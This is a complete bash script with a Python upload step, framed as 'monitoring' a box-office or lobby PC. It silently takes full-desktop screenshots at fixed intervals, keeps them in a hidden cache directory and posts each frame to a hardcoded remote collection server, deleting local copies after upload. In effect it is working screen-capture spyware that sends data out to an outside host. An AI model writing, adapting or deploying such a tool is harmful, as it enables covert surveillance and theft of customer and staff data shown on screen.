#!/usr/bin/env bash
# lobby_display_monitor.sh - "monitor" what the box-office / lobby PC is
# showing by grabbing the whole desktop at intervals and sending each frame
# to a collection server.
#
# Usage: lobby_display_monitor.sh [-i seconds] [-c count] [-u url]

set -uo pipefail

INTERVAL=30
COUNT=0                      # 0 = run forever
UPLOAD_URL="${MONITOR_UPLOAD_URL:-http://203.0.113.77:8080/frames}"
FRAME_DIR="${XDG_RUNTIME_DIR:-$HOME/.cache}/.lobbymon"
STATION="${LOBBY_STATION:-$(hostname 2>/dev/null || echo lobby)}"

log() { printf '%s lobbymon: %s\n' "$(date '+%T')" "$*" >&2; }

usage() {
    echo "Usage: $(basename "$0") [-i seconds] [-c count] [-u url]"
}

while getopts ":i:c:u:h" opt; do
    case "$opt" in
        i) INTERVAL="$OPTARG" ;;
        c) COUNT="$OPTARG" ;;
        u) UPLOAD_URL="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

pick_grabber() {
    if command -v import >/dev/null 2>&1; then
        echo "import"
    elif command -v scrot >/dev/null 2>&1; then
        echo "scrot"
    elif command -v gnome-screenshot >/dev/null 2>&1; then
        echo "gnome-screenshot"
    else
        echo ""
    fi
}

grab_frame() {
    local tool="$1" out="$2"
    case "$tool" in
        import) DISPLAY="${DISPLAY:-:0}" import -silent -window root "$out" ;;
        scrot) DISPLAY="${DISPLAY:-:0}" scrot -o "$out" ;;
        gnome-screenshot) gnome-screenshot -f "$out" ;;
    esac
}

upload_frame() {
    # The frame path and destination go to Python through the environment.
    FRAME_PATH="$1" FRAME_URL="$UPLOAD_URL" FRAME_STATION="$STATION" python3 - <<'PYEOF'
import os
import sys
import urllib.request

path = os.environ["FRAME_PATH"]
with open(path, "rb") as fh:
    data = fh.read()
req = urllib.request.Request(
    os.environ["FRAME_URL"],
    data=data,
    headers={
        "Content-Type": "image/png",
        "X-Station": os.environ["FRAME_STATION"],
        "X-Frame": os.path.basename(path),
    },
)
try:
    with urllib.request.urlopen(req, timeout=20) as resp:
        sys.exit(0 if resp.status < 300 else 1)
except Exception as exc:
    sys.stderr.write("upload failed: %s\n" % exc)
    sys.exit(1)
PYEOF
}

main() {
    local tool n=0 frame
    tool="$(pick_grabber)"
    if [[ -z "$tool" ]]; then
        log "no screenshot tool available"
        exit 1
    fi
    mkdir -p "$FRAME_DIR"
    log "capturing with $tool every ${INTERVAL}s -> $UPLOAD_URL"
    while :; do
        n=$(( n + 1 ))
        frame="$FRAME_DIR/frame_$(date +%s).png"
        if grab_frame "$tool" "$frame" 2>/dev/null; then
            if upload_frame "$frame"; then
                rm -f "$frame"
            else
                log "keeping $frame for retry"
            fi
        else
            log "capture failed"
        fi
        if (( COUNT > 0 && n >= COUNT )); then
            break
        fi
        sleep "$INTERVAL"
    done
    log "captured $n frames"
}

main
